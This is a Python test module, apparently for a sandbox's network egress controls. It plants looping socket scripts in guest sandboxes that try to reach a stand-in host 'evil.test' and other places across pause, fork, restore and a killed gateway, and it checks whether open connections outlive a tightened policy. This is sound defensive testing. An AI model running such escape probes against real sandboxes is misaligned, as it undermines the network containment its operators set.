"""Moments at which no policy could stand: a program in the guest fires all the time, over create, pause, suspend, fork, a change of policy,
and the gateway's death."""

import os
import signal
import time

from api_client import Sandbox
from framework import attack

# Each shot says which one it is, so that the internet's log tells when it was fired. TO: places to fire at; NAME: a name as well.
FIRE = r"""
import socket, sys, time, threading
def fire(host, port, name):
    n = 0
    while True:
        n += 1
        s = socket.socket(); s.settimeout(0.7)
        try:
            s.connect((host, port)); s.send(b"GET /MARK-%d HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (n, name.encode())); s.recv(200)
        except OSError: pass
        s.close(); time.sleep(0.01)
for word in sys.argv[1:]:
    host, port, name = word.split(",")
    threading.Thread(target=fire, args=(host, int(port), name), daemon=True).start()
time.sleep(600)
"""


def fire(t, box, mark, *places):
    box.write("/tmp/fire.py", FIRE.replace("MARK", mark).encode(), user="root")
    t.guest(box, "setsid -f python3 /tmp/fire.py " + " ".join(places) + " >/dev/null 2>&1 </dev/null")
    t.control("it fires", t.guest(box, "sleep 0.5; pgrep -f fire.py").code == 0)


def shots(t, mark, *places):
    return [entry for entry in t.world.arrived(mark + "-") if not places or entry["at"] in places]


@attack("A23", "A26", "I05", seconds=150)
def windows(t):
    """Shots all the time: over pause, suspend and wake, fork, restore, and a gateway that is killed"""
    world = t.world
    box, children = world.fresh("blocked"), []
    target = world.listeners[1]
    places = [f"{world.net.evil},80,evil.test", f"{world.net.shared},80,allowed.test", f"{target.address},{target.port},x", "allowed.test,80,allowed.test"]
    try:
        fire(t, box, "shot", *places)
        t.audited(box)
        for _ in range(20 if world.long else 2):
            box.api.ok("POST", box.path + "/pause", {}, {"Prefer": "wait=30"})
            box.api.ok("POST", box.path + "/resume", {}, {"Prefer": "wait=30"})
            t.control("a suspend and a wake", [box.change(verb)["state"] for verb in ("suspend", "wake")] == ["succeeded"] * 2)
        checkpoint = box.change("checkpoint")["checkpoint"]
        operation = box.change("fork", {"count": 2})
        children = [Sandbox(box.api, id) for id in operation["children"]]
        time.sleep(1)
        for child in children:
            t.control("it fires in the fork as well", t.guest(child, "pgrep -f fire.py").code == 0)
            t.attempt("the fork's policy is wider than its parent's", box.api.ok("GET", f"{child.path}/egress")["policy"]["mode"] != "none")
        t.control("a restore", box.change("restore", {"checkpoint": checkpoint})["state"] == "succeeded")
        t.attempt("the policy is wider after a restore", box.api.ok("GET", f"{box.path}/egress")["policy"]["mode"] != "none")
        t.control("it fires after the restore", t.guest(box, "pgrep -f fire.py").code == 0)
        killed(t, box)
        t.attempt("a shot went through", shots(t, "shot"), shots(t, "shot")[:2])
        # The same program gets through once it may: so the silence before was the policy's.
        world.expect(lambda entry: entry["at"] in ("shared", "dns") and entry.get("host", "allowed.test") == "allowed.test" and entry.get("name", "allowed.test") == "allowed.test")
        world.settle(children[0], {"mode": "allowlist", "rules": [{"name": "allowed.test"}]})
        world.server.wait_for(lambda: shots(t, "shot", "shared"), 20, "a shot to arrive once it is allowed")
        t.control("the same shots arrive where they may", shots(t, "shot", "shared"))
        grandchildren = children[0].change("fork", {})["children"]
        children += [Sandbox(box.api, id) for id in grandchildren]
        policy = box.api.ok("GET", f"{children[-1].path}/egress")["policy"]
        t.attempt("a fork of the allowed one may more", policy != {"mode": "allowlist", "rules": [{"name": "allowed.test"}]}, policy)
        world.settle(children[0], {"mode": "none"})
        time.sleep(0.3)
        count = len(shots(t, "shot", "shared"))
        world.settle(children[-1], {"mode": "none"})
        time.sleep(1.5)
        late = [entry for entry in shots(t, "shot", "shared")[count:] if entry["time"] > time.time() - 1.2]
        t.attempt("shots arrive after both were closed again", late, late[:2])
        t.attempt("a shot reached another place", shots(t, "shot", "evil", "host"))
        box.api.call("DELETE", f"/v1/checkpoints/{checkpoint}")
    finally:
        for one in [*children, box]:
            world.drop(one)


def killed(t, box):
    """The gateway is killed, twice; what it serves again is the policy that was."""
    world = t.world
    for _ in range(2):
        old = world.server.role_pid("egress")
        os.kill(old, signal.SIGKILL)
        state = box.api.ok("GET", f"{box.path}/egress")
        t.note(f"at once after the kill: serving {state.get('serving')}")
        world.server.wait_for(lambda: world.server.role_pid("egress") not in (None, old) and box.api.ok("GET", f"{box.path}/egress")["serving"], 60, "the gateway to serve again")
        time.sleep(0.5)
    world.pids = world.role_pids()
    t.attempt("the policy is another after the gateway's death", box.api.ok("GET", f"{box.path}/egress")["policy"]["mode"] != "none")


HELD = r"""
import socket, ssl, sys, time
mark, sni = sys.argv[1], len(sys.argv) > 2
s = socket.create_connection(("allowed.test", 443 if sni else 80), 8)
if sni:
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE; s = c.wrap_socket(s, server_hostname="allowed.test")
n = 0
while True:
    n += 1
    s.sendall(b"GET /%s-%d HTTP/1.1\r\nHost: allowed.test\r\n\r\n" % (mark.encode(), n)); answer = s.recv(4096)
    if not answer: print("closed", flush=True); break
    if n == 1: print("open", flush=True)
    time.sleep(0.03)
"""
RAW = r"""
import socket, time
s = socket.create_connection(("allowed.test", 5432), 8); n = 0
while True:
    n += 1; s.sendall(b"raw-%d " % n)
    if n == 1: print("open", flush=True)
    if not s.recv(4096): break
    time.sleep(0.03)
"""


@attack("A25", conditions=("partial",), alone=True)
def held(t):
    """Connections that were allowed, held open while the policy is tightened"""
    world, box = t.world, t.world.sandbox("second")
    world.settle(box)
    box.write("/tmp/held.py", HELD.encode())
    box.write("/tmp/raw.py", RAW.encode())
    runs = {"clear": box.start(["python3", "/tmp/held.py", "clear"]), "tls": box.start(["python3", "/tmp/held.py", "tls", "x"]), "raw": box.start(["python3", "/tmp/raw.py"])}
    runs = {name: one.in_background() for name, one in runs.items()}
    try:
        for name, one in runs.items():
            one.until(lambda result: b"open" in result.stdout or result.exit, 30)
        time.sleep(0.5)

        def arrived(name):
            return [entry for entry in world.net.since(world.mark, "shared") if f"{name}-" in str(entry.get("path") or entry.get("body", ""))]
        for name in runs:
            t.control(f"{name}: requests flow before", len(arrived(name)) > 3, len(arrived(name)))
        # First a change that touches none of them: they go on.
        world.settle(box, {**world.policy, "rules": [*world.policy["rules"], {"name": "unused.test"}]})
        time.sleep(0.4)
        before = {name: len(arrived(name)) for name in runs}
        time.sleep(0.6)
        for name in runs:
            t.control(f"{name}: a change that allows it still lets it go on", len(arrived(name)) > before[name])
        world.settle(box, {"mode": "none"})
        closed = time.time()
        time.sleep(1.5)
        for name in runs:
            late = [entry for entry in arrived(name) if entry["time"] > closed + 0.3]
            t.attempt(f"{name}: it flows on after the answer to the change", late, f"{len(late)}, the last {max([e['time'] for e in late], default=closed) - closed:.2f} s after")
        t.figure("last byte after the change, s", round(max((entry["time"] - closed for name in runs for entry in arrived(name)), default=0), 3))
    finally:
        for one in runs.values():
            one.command.kill()
        world.settle(box)
